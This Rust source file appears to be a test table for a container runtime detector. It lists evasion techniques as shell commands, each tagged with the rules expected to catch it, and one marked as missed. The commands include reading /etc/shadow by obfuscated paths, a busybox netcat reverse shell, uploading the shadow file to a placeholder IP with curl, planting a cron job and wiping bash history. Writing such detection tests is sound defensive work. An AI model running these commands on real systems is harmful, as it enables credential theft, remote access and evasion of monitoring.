//! Where programs lie, what they are called, and how they come to run.

use super::Way::Exec;
use super::rules::{ARGUMENTS, FOREIGN, HIDDEN, HISTORY, LOADER, PLANTED, REVERSE, SECRET, SENT, TUNNEL};
use super::{Technique, missed, told};

pub(super) const TECHNIQUES: [Technique; 38] = [
    told(
        "a-new-file",
        Exec,
        "cp /usr/bin/nmap /opt-agent; /opt-agent",
        &[FOREIGN],
    ),
    told("a-replaced-program", Exec, "cp /usr/bin/nmap /usr/bin/w; w", &[FOREIGN]),
    told(
        "other-content-at-the-same-place",
        Exec,
        "cp /usr/bin/sort /opt-replaced; /opt-replaced /dev/null",
        &[FOREIGN],
    ),
    told(
        "called-as-the-emulator-of-builds",
        Exec,
        "cp /usr/bin/id /dev/.buildkit_qemu_emulator; /dev/.buildkit_qemu_emulator",
        &[HIDDEN],
    ),
    told(
        "hidden-in-a-managers-folder",
        Exec,
        "mkdir -p /nix/store/x; cp /usr/bin/id /nix/store/x/.id; /nix/store/x/.id",
        &[HIDDEN],
    ),
    told(
        "in-shared-memory",
        Exec,
        "cp /usr/bin/id /dev/shm/x; /dev/shm/x",
        &[HIDDEN],
    ),
    told(
        "beside-the-devices",
        Exec,
        "cp /usr/bin/id /dev/x; /dev/x",
        &[FOREIGN, HIDDEN],
    ),
    told(
        "in-memory-of-the-container",
        Exec,
        "cp /usr/bin/id /run/x; /run/x",
        &[FOREIGN, HIDDEN],
    ),
    missed(
        "on-a-volume",
        Exec,
        "cp /usr/bin/id /data/x; /data/x",
        &[FOREIGN, HIDDEN],
        "what is built on a volume is run there every day",
    ),
    told("in-no-file", Exec, "odd-exec memory /usr/bin/id x", &[HIDDEN]),
    told(
        "in-a-file-that-is-gone",
        Exec,
        "cp /usr/bin/id /tmp/gone; odd-exec deleted /tmp/gone x",
        &[HIDDEN],
    ),
    told("a-hidden-name", Exec, "cp /usr/bin/id /tmp/.x; /tmp/.x", &[HIDDEN]),
    told(
        "in-memory-under-the-engines-name",
        Exec,
        "cp /usr/bin/runc /tmp/runc; /tmp/runc --starts same /usr/bin/odd-exec memory /usr/bin/id runc",
        &[HIDDEN],
    ),
    told(
        "by-the-loader",
        Exec,
        "cp /usr/bin/sort /dev/y; /lib64/ld-linux-x86-64.so.2 /dev/y /dev/null",
        &[FOREIGN, HIDDEN, LOADER],
    ),
    told(
        "a-program-of-the-image-by-the-loader",
        Exec,
        "/lib64/ld-linux-x86-64.so.2 /usr/bin/cat /etc/shadow",
        &[SECRET, LOADER],
    ),
    told(
        "a-tool-as-an-interpreter",
        Exec,
        "printf '#!/usr/bin/cat\\n' >/tmp/ls; cat /etc/passwd >>/tmp/ls; chmod 755 /tmp/ls; /tmp/ls /etc/shadow",
        &[SECRET],
    ),
    told(
        "a-script-called-as-a-manager",
        Exec,
        "printf '#!/bin/sh\\n/tmp/app2\\n' >/tmp/apk; chmod 755 /tmp/apk; cp /usr/bin/id /tmp/app2; /tmp/apk",
        &[FOREIGN],
    ),
    told(
        "a-link-with-another-name",
        Exec,
        "ln -s /usr/bin/nc.openbsd /tmp/ls2; /tmp/ls2 -lp 4444",
        &[TUNNEL],
    ),
    told(
        "another-first-argument",
        Exec,
        "bash -c 'exec -a kworker cat /etc/shadow'",
        &[SECRET],
    ),
    told("the-box-before-the-tool", Exec, "busybox cat /etc/shadow", &[SECRET]),
    told("the-box-listens", Exec, "busybox nc -l -p 1 -s 203.0.113.1", &[TUNNEL]),
    told(
        "the-box-connects-a-shell",
        Exec,
        "busybox nc 127.0.0.1 9 -e /bin/sh",
        &[REVERSE],
    ),
    told(
        "the-box-called-as-another",
        Exec,
        "cp /bin/busybox /tmp/busybox; /tmp/busybox cat /etc/shadow",
        &[SECRET],
    ),
    told(
        "the-box-by-another-file",
        Exec,
        "cp /bin/busybox /tmp/tool; /tmp/tool nc -l -p 1 -s 203.0.113.1",
        &[TUNNEL, FOREIGN],
    ),
    told("a-secret-behind-a-dot", Exec, "cat /etc/./shadow", &[SECRET]),
    told("a-secret-behind-two-slashes", Exec, "cat /etc//shadow", &[SECRET]),
    told("a-secret-from-its-folder", Exec, "cd /etc; cat shadow", &[SECRET]),
    told(
        "a-secret-by-way-of-a-process",
        Exec,
        "cat /proc/self/root/etc/shadow",
        &[SECRET],
    ),
    told("a-secret-by-pattern", Exec, "cat /e??/sha*w", &[SECRET]),
    told(
        "a-secret-behind-a-line-end",
        Exec,
        "cat '\n/etc/shadow' /etc/shadow",
        &[SECRET],
    ),
    told(
        "a-secret-amid-padding",
        Exec,
        "p=$(printf '%0100000d' 0); p=\"$p $p $p $p $p $p $p $p $p $p\"; cat $p /etc/shadow $p",
        &[SECRET],
    ),
    told(
        "a-secret-amid-more-padding-than-is-looked-at",
        Exec,
        "ulimit -s unlimited; p=$(printf '%0100000d' 0); p=\"$p $p $p $p $p $p $p $p $p $p\"; \
            cat $p $p /etc/shadow $p $p",
        &[ARGUMENTS],
    ),
    told(
        "a-secret-packed-from-its-folder",
        Exec,
        "tar -cf /tmp/x -C /etc shadow",
        &[SECRET],
    ),
    told(
        "a-secret-as-a-url",
        Exec,
        "curl file://localhost/etc/sh%61dow",
        &[SECRET],
    ),
    told(
        "a-secret-in-an-option",
        Exec,
        "cd /tmp; curl -T../etc/./shadow http://198.51.100.7/",
        &[SENT],
    ),
    told(
        "a-way-back-from-its-folder",
        Exec,
        "mkdir -p /etc/cron.d; cd /etc/cron.d; cp /proc/self/comm job",
        &[PLANTED],
    ),
    told(
        "a-history-by-a-detour",
        Exec,
        "cd /tmp; rm -f ../root/.bash_history",
        &[HISTORY],
    ),
    told(
        "a-shell-of-a-hidden-root",
        Exec,
        "mkdir -p /dev/r/bin; cp /bin/busybox /dev/r/bin/nginx; busybox chroot /dev/r /bin/nginx",
        &[FOREIGN, HIDDEN],
    ),
];
